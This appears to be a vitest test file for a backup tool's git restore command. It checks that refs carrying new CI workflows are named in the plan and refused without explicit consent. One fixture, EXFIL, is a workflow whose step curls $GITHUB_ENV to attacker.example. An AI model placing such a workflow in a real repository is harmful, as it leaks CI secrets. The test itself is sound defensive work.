import { describe, expect, it } from 'vitest';
import { chmodSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { CliWorkspace } from '../helpers/cli.js';
import { refNames, sh } from '../helpers/git.js';
import { fastImport, initBare } from '../helpers/git-fast.js';
import { withUnlockedConsole } from '../helpers/console-client.js';

const CI = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n';
const EXFIL = 'name: exfil\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl -d @$GITHUB_ENV https://attacker.example" }] } }\n';

/**
 * Round 4. A hijacked agent records refs whose workflows are its own: the run refused them (round
 * 3), but only after the operator had read a plan that did not say so and typed the confirmation.
 * And a whole repository restored into an empty or new remote was not checked at all: every branch
 * and tag the writer recorded landed at once, their workflows run with the secrets that repository
 * or its organisation grants. The plan names each such ref; the run refuses them without consent;
 * every push into a server that takes push options asks it to run no CI (`ci.skip`).
 */
describe('what a restore pushes is named before the operator consents', async () => {
  const ws = new CliWorkspace();
  await ws.setupQuick();
  const live = join(ws.dir, 'live.git');
  initBare(live);
  fastImport(live, [
    { ref: 'refs/heads/main', files: { 'README.md': '# app\n', '.github/workflows/ci.yml': CI } },
    { ref: 'refs/heads/docs', from: 'refs/heads/main', files: { 'docs.md': 'how\n' } },
    { ref: 'refs/heads/deploy', from: 'refs/heads/main', files: { '.github/workflows/exfil.yml': EXFIL } },
  ]);
  await ws.hereOk(['backup', '--store', ws.store, '--writer', 'writer.json', '--source', `app=git:${live}`]);
  sh(live, 'update-ref', '-d', 'refs/heads/deploy');
  const deployLine = /refs\/heads\/deploy RUNS CI: \.github\/workflows\/exfil\.yml \(new\) differs from live main/;

  it('restore --dry-run names the ref whose pipeline is new (text and --json), exits as the run would, pushes nothing', async () => {
    const dry = await ws.here(ws.operator('restore', 'latest:app', '--target', live, '--ref', 'refs/heads/deploy', '--ref', 'refs/heads/docs', '--dry-run'));
    expect(dry.stdout).toMatch(deployLine);
    expect(dry.stdout).not.toMatch(/refs\/heads\/docs RUNS CI/);
    expect(dry.code).not.toBe(0);
    expect(dry.stderr).toMatch(/1 ref would run the pipeline the snapshot's writer recorded.*--allow-pipeline-changes/);
    const json = await ws.here(ws.operator('restore', 'latest:app', '--target', live, '--ref', 'refs/heads/deploy', '--dry-run', '--json', '--allow-pipeline-changes'));
    expect(json.code).toBe(0);
    expect(JSON.parse(json.stdout).item.runsCi).toEqual([expect.stringMatching(deployLine)]);
    expect(refNames(live)).toEqual(['refs/heads/docs', 'refs/heads/main']);
  });

  it("the console's plan names it on the item, before the typed confirmation", async () => {
    await withUnlockedConsole(ws, async ({ ok, vaultId, dir }) => {
      const plan = await ok('restore.plan', { vaultId, snapshot: 'latest', paths: ['app/refs/refs/heads/deploy', 'app/refs/refs/heads/docs'], target: join(dir, 'x') });
      expect(plan.pushesCommits).toBe(true);
      expect(plan.items.map((i) => i.runsCi)).toEqual([[expect.stringMatching(deployLine)], undefined]);
    });
  });

  it('a whole repository pushed into an empty remote: each ref carrying a pipeline is named and refused without consent', async () => {
    const empty = join(ws.dir, 'empty.git');
    initBare(empty);
    const target = `file://${empty}`;
    const dry = await ws.here(ws.operator('restore', 'latest:app', '--target', target, '--dry-run'));
    // No live pipeline to compare with: the writer's are every one of them (docs carries ci.yml too).
    expect(dry.stdout).toMatch(/refs\/heads\/main RUNS CI: \.github\/workflows\/ci\.yml \(new\) differs from the live repository \(no default branch/);
    expect(dry.stdout).toMatch(/refs\/heads\/deploy RUNS CI: \.github\/workflows\/ci\.yml \(new\), \.github\/workflows\/exfil\.yml \(new\)/);
    expect(dry.code).not.toBe(0);

    const refused = await ws.here(ws.operator('restore', 'latest:app', '--target', target));
    expect(refused.code).not.toBe(0);
    expect(refused.stderr).toMatch(/refs\/heads\/deploy RUNS CI: .*nothing was pushed/);
    expect(refNames(empty)).toEqual([]);

    const allowed = await ws.here(ws.operator('restore', 'latest:app', '--target', target, '--allow-pipeline-changes'));
    expect(allowed.code, allowed.stderr).toBe(0);
    expect(allowed.stdout).toMatch(/Note: refs\/heads\/deploy RUNS CI: .*pushed, as allowed/);
    expect(refNames(empty)).toEqual(['refs/heads/deploy', 'refs/heads/docs', 'refs/heads/main']);
  });

  it('a push asks the server to run no CI (ci.skip) where it takes push options, and pushes as before where it does not', async () => {
    const fakeSsh = join(ws.dir, 'fake-ssh');
    writeFileSync(fakeSsh, '#!/bin/sh\nwhile [ $# -gt 1 ]; do shift; done\nexec sh -c "$1"\n'); // runs the remote command here, as sshd would
    chmodSync(fakeSsh, 0o755);
    const server = (name: string, advertise: boolean) => {
      const dir = join(ws.dir, name);
      initBare(dir);
      fastImport(dir, [{ ref: 'refs/heads/main', files: { 'README.md': '# app\n', '.github/workflows/ci.yml': CI } }]);
      sh(dir, 'config', 'receive.advertisePushOptions', String(advertise));
      const seen = join(ws.dir, `${name}.options`);
      writeFileSync(join(dir, 'hooks/pre-receive'), `#!/bin/sh\nenv | grep '^GIT_PUSH_OPTION' | sort > '${seen}'\n`); // as GitLab reads them
      chmodSync(join(dir, 'hooks/pre-receive'), 0o755);
      return { dir, seen };
    };
    const gitlab = server('gitlab.git', true);
    const r = await ws.here(ws.operator('restore', 'latest:app', '--target', `ssh://localhost${gitlab.dir}`, '--ref', 'refs/heads/docs'), { GIT_SSH_COMMAND: fakeSsh });
    expect(r.code, r.stderr).toBe(0);
    expect(readFileSync(gitlab.seen, 'utf8')).toBe('GIT_PUSH_OPTION_0=ci.skip\nGIT_PUSH_OPTION_1=integrations.skip_ci\nGIT_PUSH_OPTION_COUNT=2\n');
    expect(refNames(gitlab.dir)).toContain('refs/heads/docs');

    const plain = server('plain.git', false);
    const p = await ws.here(ws.operator('restore', 'latest:app', '--target', `ssh://localhost${plain.dir}`, '--ref', 'refs/heads/docs'), { GIT_SSH_COMMAND: fakeSsh });
    expect(p.code, p.stderr).toBe(0);
    expect(readFileSync(plain.seen, 'utf8')).toBe('GIT_PUSH_OPTION_COUNT=0\n'); // its hook ran, with no options
    expect(refNames(plain.dir)).toContain('refs/heads/docs');
  });
});
